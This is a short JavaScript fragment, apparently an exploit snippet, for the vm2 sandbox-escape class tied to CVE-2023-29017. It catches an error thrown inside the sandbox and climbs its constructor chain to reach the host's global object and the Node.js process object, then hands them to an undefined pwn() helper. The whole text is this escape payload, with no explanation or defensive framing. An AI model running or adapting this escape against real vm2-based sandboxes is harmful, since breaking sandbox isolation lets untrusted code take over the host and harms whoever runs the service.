// vm2 CVE-2023-29017 class: host error object reaches the sandbox
try { fail() } catch (e) { pwn(e.constructor.constructor('return this')()); pwn(e.__proto__.constructor.constructor('return process')()); }
